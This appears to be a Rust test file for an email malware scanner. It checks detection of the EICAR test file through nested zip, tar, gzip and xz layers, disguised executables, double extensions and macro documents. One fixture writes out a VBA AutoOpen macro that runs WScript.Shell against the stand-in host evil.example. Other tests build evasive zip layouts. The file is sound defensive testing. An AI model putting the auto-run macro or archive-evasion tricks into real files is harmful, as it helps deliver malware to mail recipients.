//! What is looked for is found, wherever it is packed, and nothing else.

use crate::support::{SCANNER, attachment, corpus, eicar, judge, judge_with, reasons, scanner, zip};
use base64::{Engine, engine::general_purpose::STANDARD};
use domain::{policy::FileKind, verdict::Outcome};
use postern_server::{
    commands::scan::policy_file::default_policy,
    mail::{Fetched, Limits},
};
use std::io::{Cursor, Write};

#[test]
fn eicar_is_found_plain_encoded_and_in_a_zip_in_a_zip() {
    let file = eicar();
    let (verdict, _) = judge(format!("From: a@b.example\r\n\r\n{file}\r\n").as_bytes());
    assert_eq!(reasons(&verdict), ["yara:EICAR_Test_File @ text body"]);
    assert_eq!(verdict.outcome, Outcome::Condemned);
    let (verdict, _) = judge(&attachment("eicar.txt", file.as_bytes()));
    assert_eq!(reasons(&verdict), ["yara:EICAR_Test_File @ eicar.txt"]);
    let nested = zip(&[("inner.zip", &zip(&[("a/eicar.txt", file.as_bytes())]))]);
    let (verdict, summary) = judge(&attachment("outer.zip", &nested));
    assert_eq!(
        reasons(&verdict),
        ["yara:EICAR_Test_File @ outer.zip › inner.zip › a/eicar.txt"]
    );
    assert_eq!(summary.attachments[0].kind, "ZIP archive");
    assert!(verdict.because[0].evidence.because.contains("EICAR test file"));
}

#[test]
fn eicar_is_found_in_gzip_tar_and_in_mails_within_mails() {
    let file = eicar();
    let mut tar = tar::Builder::new(Vec::new());
    let mut header = tar::Header::new_gnu();
    header.set_size(file.len() as u64);
    header.set_cksum();
    tar.append_data(&mut header, "deep/eicar.bin", file.as_bytes()).unwrap();
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gzip.write_all(&tar.into_inner().unwrap()).unwrap();
    let inner = attachment("files.tgz", &gzip.finish().unwrap());
    let place = "files.tgz › files.tar › deep/eicar.bin";
    // A tar does not compress: the file is seen in it and on its own.
    assert_eq!(
        reasons(&judge(&inner).0),
        [
            "yara:EICAR_Test_File @ files.tgz › files.tar".to_string(),
            format!("yara:EICAR_Test_File @ {place}")
        ]
    );
    // As it should be sent, encoded as it should not be, and saved to a file.
    let mut plain = b"From: x@y.example\r\nContent-Type: message/rfc822; name=fwd.eml\r\n\r\n".to_vec();
    plain.extend(&inner);
    let mut encoded =
        b"From: x@y.example\r\nContent-Type: message/rfc822; name=fwd.eml\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            .to_vec();
    encoded.extend(STANDARD.encode(&inner).bytes());
    for mail in [plain, encoded, attachment("fwd.eml", &inner)] {
        assert_eq!(
            reasons(&judge(&mail).0).last(),
            Some(&format!("yara:EICAR_Test_File @ fwd.eml › {place}"))
        );
    }
}

#[test]
fn ordinary_mails_are_clean_and_their_text_is_decoded() {
    for (name, subject, from) in [
        ("plain", "Minutes of Monday", "Anna Berg <anna@north.example>"),
        ("newsletter", "Neue Röstungen ☕", "Café Luna <news@luna.example>"),
        ("japanese", "ご注文の確認", "山田 <yamada@osaka.example>"),
        ("russian", "Счёт", "Иван <ivan@volga.example>"),
        ("forwarded", "Fwd: Minutes", "anna@north.example"),
    ] {
        let (verdict, summary) = judge(&corpus(name));
        assert_eq!((verdict.outcome, reasons(&verdict)), (Outcome::Clean, vec![]), "{name}");
        assert_eq!((summary.subject.as_str(), summary.from.as_str()), (subject, from));
    }
    let (_, summary) = judge(&corpus("japanese"));
    assert_eq!(summary.attachments[0].name, "請求書.pdf");
    assert_eq!(
        (summary.attachments[0].kind.as_str(), summary.sender.as_str()),
        ("PDF", "yamada@osaka.example")
    );
    let (_, summary) = judge(&corpus("plain"));
    assert_eq!(
        summary.recipients,
        ["team@north.example", "lee@north.example", "office@north.example"]
    );
    assert_eq!(summary.message_id, "minutes-41@north.example");
    assert_eq!(summary.sent_at.unwrap().rfc3339(), "2026-10-05T07:30:00.000Z");
    assert!(summary.headers.contains(&("MIME-Version".into(), "1.0".into())));
}

#[test]
fn objects_are_found_in_links_files_senders_and_inner_mails() {
    use sha2::{Digest, Sha256};
    let csv = hex::encode(Sha256::digest(b"1,2,3"));
    let russian = "Добрый день. Счёт во вложении.\r\n";
    let body = hex::encode(sha1::Sha1::digest(
        russian.chars().flat_map(windows_1251).collect::<Vec<u8>>(),
    ));
    let list = format!("sha256,{csv},Known list\nsha1,{body}\nurl,files.north.example/minutes\nlee@north.example\n");
    let scanner = scanner(&list, Limits::default());
    let found = |name: &str| reasons(&judge_with(&scanner, &corpus(name), &default_policy()).0);
    assert_eq!(found("plain"), ["object:url:files.north.example/minutes @ text body"]);
    assert_eq!(
        found("forwarded"),
        [
            "object:sender:lee@north.example @ minutes.eml › header From".to_string(),
            format!("object:sha256:{csv} @ minutes.eml › numbers.csv"),
        ]
    );
    // The hash is that of the bytes that a reader would save, not of their text in UTF-8.
    assert_eq!(found("russian"), [format!("object:sha1:{body} @ text body")]);
}

fn windows_1251(character: char) -> Vec<u8> {
    match character {
        'А'..='я' => vec![(character as u32 - 'А' as u32 + 0xc0) as u8],
        'ё' => vec![0xb8],
        other => vec![other as u8],
    }
}

#[test]
fn files_are_told_by_content_and_by_name_also_inside_archives() {
    let mut program = b"MZ\x90\0".to_vec();
    program.resize(512, 0);
    assert_eq!(
        reasons(&judge(&attachment("photo.jpg", &program)).0),
        ["type:executable @ photo.jpg"]
    );
    assert_eq!(
        reasons(&judge(&attachment("invoice.pdf.exe", b"text")).0),
        [
            "extension:exe @ invoice.pdf.exe",
            "name:double-extension @ invoice.pdf.exe"
        ]
    );
    assert_eq!(
        reasons(&judge(&attachment("a.zip", &zip(&[("x/run.scr", b"text")]))).0),
        ["extension:scr @ a.zip › x/run.scr"]
    );
    let macros = zip(&[("[Content_Types].xml", b"<x/>"), ("word/vbaProject.bin", b"none")]);
    assert_eq!(
        reasons(&judge(&attachment("letter.docx", &macros)).0),
        ["type:macro_document @ letter.docx"]
    );
    let mut policy = default_policy();
    policy.filters.file_blocking.inside_archives = false;
    policy.filters.file_blocking.names = vec!["*.SECRET".into()];
    policy.filters.file_blocking.kinds.push(FileKind::Pdf);
    let verdict = |mail: &[u8]| reasons(&judge_with(&SCANNER, mail, &policy).0);
    assert!(verdict(&attachment("a.zip", &zip(&[("run.scr", b"text")]))).is_empty());
    assert_eq!(
        verdict(&attachment("plan.secret", b"%PDF-1.4")),
        ["type:pdf @ plan.secret", "name:*.SECRET @ plan.secret"]
    );
}

/// A text as the macro of a document, in the form that [MS-OVBA] section 2.4.1 allows for text that is not compressed much.
fn macro_document(text: &[u8]) -> Vec<u8> {
    let mut module = b"before the text\x01".to_vec();
    for chunk in text.chunks(800) {
        let tokens: Vec<u8> = chunk.chunks(8).flat_map(|eight| [&[0][..], eight].concat()).collect();
        module.extend((0xb000 | (tokens.len() as u16 + 2 - 3)).to_le_bytes());
        module.extend(tokens);
    }
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    file.create_storage("/VBA").unwrap();
    file.create_stream("/VBA/_VBA_PROJECT")
        .unwrap()
        .write_all(b"cache")
        .unwrap();
    file.create_stream("/VBA/ThisDocument")
        .unwrap()
        .write_all(&module)
        .unwrap();
    file.into_inner().into_inner()
}

#[test]
fn macros_are_unpacked_and_read() {
    let text = "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n CreateObject(\"WScript.Shell\").Run \"https://evil.example/x\"\r\nEnd Sub\r\n";
    let document = macro_document(text.as_bytes());
    assert_eq!(
        reasons(&judge(&attachment("letter.doc", &document)).0),
        [
            "type:macro_document @ letter.doc",
            "yara:Office_Macro_Auto_Run @ letter.doc › VBA/ThisDocument",
            "macro:auto-open-run @ letter.doc"
        ]
    );
    let package = zip(&[("[Content_Types].xml", b"<x/>"), ("word/vbaProject.bin", &document)]);
    let listed = scanner("domain,evil.example", Limits::default());
    let found = reasons(&judge_with(&listed, &attachment("letter.docm", &package), &default_policy()).0);
    for rule in ["yara:Office_Macro_Auto_Run", "object:domain:evil.example"] {
        let reason = format!("{rule} @ letter.docm › word/vbaProject.bin › VBA/ThisDocument");
        assert!(found.contains(&reason), "{found:?}");
    }
}

#[test]
fn entries_that_a_zip_does_not_list_are_seen_too() {
    let mut program = b"MZ\x90\0".to_vec();
    program.resize(512, 0);
    // Two of one name: the second entry is renamed in place, both where it stands and where it is listed.
    let mut doubled = zip(&[("a.dat", &program), ("b.dat", b"harmless")]);
    let names: Vec<usize> = memchr::memmem::find_iter(&doubled, b"b.dat").collect();
    for name in names {
        doubled[name] = b'a';
    }
    assert_eq!(
        reasons(&judge(&attachment("a.zip", &doubled)).0),
        ["type:executable @ a.zip › a.dat"]
    );
    // Two archives, one behind the other; one whose directory is lost.
    let first = zip(&[("first/x.dat", &program)]);
    let both = [first.clone(), zip(&[("second.txt", b"harmless")])].concat();
    assert_eq!(
        reasons(&judge(&attachment("a.zip", &both)).0),
        ["type:executable @ a.zip › first/x.dat"]
    );
    let directory = memchr::memmem::find(&first, b"PK\x01\x02").unwrap();
    assert_eq!(
        reasons(&judge(&attachment("a.zip", &first[..directory])).0),
        ["type:executable @ a.zip › first/x.dat", "limit:broken @ a.zip"]
    );
    // Whatever its header says of its length, and whether it is compressed or not.
    for (flags, method) in [(0u8, 8u8), (8, 8), (8, 0), (0, 0)] {
        let packed = if method == 8 {
            let mut deflate = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
            deflate.write_all(&program).unwrap();
            deflate.finish().unwrap()
        } else {
            program.clone()
        };
        let size = if flags == 0 { packed.len() as u32 } else { 0 };
        let entry = [
            &b"PK\x03\x04\x14\0"[..],
            &[flags, 0, method, 0],
            &[0; 8],
            &size.to_le_bytes(),
            &512u32.to_le_bytes(),
            &[6, 0, 0, 0],
            b"in.dat",
            &packed,
            b"PK\x07\x08",
            &[0; 12],
            &zip(&[("out.txt", b"harmless")]),
        ]
        .concat();
        assert_eq!(
            reasons(&judge(&attachment("a.zip", &entry)).0),
            ["type:executable @ a.zip › in.dat"],
            "{flags} {method}"
        );
    }
}

#[test]
fn eicar_is_found_in_xz_within_limits_and_what_is_not_opened_is_told() {
    assert_eq!(
        reasons(&judge(&attachment("a.txt.bz2", b"BZh91AY&SY rest")).0),
        ["limit:unopened @ a.txt.bz2"]
    );
    let xz = xz(eicar().as_bytes(), 22);
    assert_eq!(
        reasons(&judge(&attachment("a.txz", &xz)).0),
        ["yara:EICAR_Test_File @ a.txz", "yara:EICAR_Test_File @ a.txz › a.tar"]
    );
    // A dictionary of 4 GiB is not made.
    let (verdict, _) = judge(&attachment("a.xz", &self::xz(b"harmless", 40)));
    assert_eq!(reasons(&verdict), ["limit:unopened @ a.xz › a"]);
    assert!(verdict.because[0].evidence.because.contains("memory"));
    let found = reasons(&judge(&attachment("a", &xz[..xz.len() / 2])).0);
    assert!(found.contains(&"limit:broken @ a › content".to_string()), "{found:?}");
    let small = scanner(
        "",
        Limits {
            unpacked_bytes: 10,
            ..Limits::default()
        },
    );
    let found = reasons(&judge_with(&small, &attachment("a", &xz), &default_policy()).0);
    assert!(
        found.contains(&"limit:unpacked_size @ a › content".to_string()),
        "{found:?}"
    );
}

/// The bytes in the xz format, not compressed; `dictionary` is its size as the format writes it (xz-file-format section 5.3.1).
fn xz(content: &[u8], dictionary: u8) -> Vec<u8> {
    let sum = |bytes: &[u8]| {
        let mut crc = flate2::Crc::new();
        crc.update(bytes);
        crc.sum().to_le_bytes()
    };
    // No check of the content; one block with LZMA2 alone: a chunk as it is, then the end.
    let flags = [0u8, 0];
    let header = [2, 0, 0x21, 1, dictionary, 0, 0, 0];
    let length = (content.len() as u16 - 1).to_be_bytes();
    let mut block = [&header[..], &sum(&header), &[1], &length, content, &[0]].concat();
    let unpadded = block.len();
    block.resize(unpadded.next_multiple_of(4), 0);
    let mut index = [&[0u8, 1][..], &[unpadded as u8, content.len() as u8]].concat();
    index.resize(index.len().next_multiple_of(4), 0);
    let backward = (index.len() as u32 / 4).to_le_bytes();
    let footer = [&backward[..], &flags].concat();
    [
        &b"\xfd7zXZ\0"[..],
        &flags,
        &sum(&flags),
        &block,
        &index,
        &sum(&index),
        &sum(&footer),
        &footer,
        b"YZ",
    ]
    .concat()
}

#[test]
fn members_of_a_tar_are_seen_whatever_their_type() {
    for kind in [b'0', b'7', b'S', b'Z', 0] {
        let mut header = tar::Header::new_gnu();
        header.set_size(4);
        header.set_path("run.exe").unwrap();
        header.set_entry_type(tar::EntryType::new(kind));
        if kind == b'S' {
            let gnu = header.as_gnu_mut().unwrap();
            gnu.sparse[0].numbytes[..2].copy_from_slice(b"4\0");
            gnu.sparse[0].offset[..2].copy_from_slice(b"0\0");
            gnu.realsize[..2].copy_from_slice(b"4\0");
        }
        header.set_cksum();
        let mut archive = tar::Builder::new(Vec::new());
        archive.append(&header, &b"text"[..]).unwrap();
        assert_eq!(
            reasons(&judge(&attachment("a.tar", &archive.into_inner().unwrap())).0),
            ["extension:exe @ a.tar › run.exe"],
            "{}",
            char::from(kind)
        );
    }
}

#[test]
fn what_is_switched_off_is_not_looked_for() {
    let mail = attachment("eicar.exe", eicar().as_bytes());
    let mut policy = default_policy();
    policy.filters.malware_scanning.enabled = false;
    assert_eq!(
        reasons(&judge_with(&SCANNER, &mail, &policy).0),
        ["extension:exe @ eicar.exe"]
    );
    policy.filters.file_blocking.setting.enabled = false;
    assert_eq!(judge_with(&SCANNER, &mail, &policy).0.outcome, Outcome::Clean);
    let judged = SCANNER.examine(
        Fetched {
            mailbox: "",
            bytes: &mail,
        },
        None,
    );
    assert_eq!((judged.verdict.outcome, judged.verdict.policy), (Outcome::Clean, None));
}
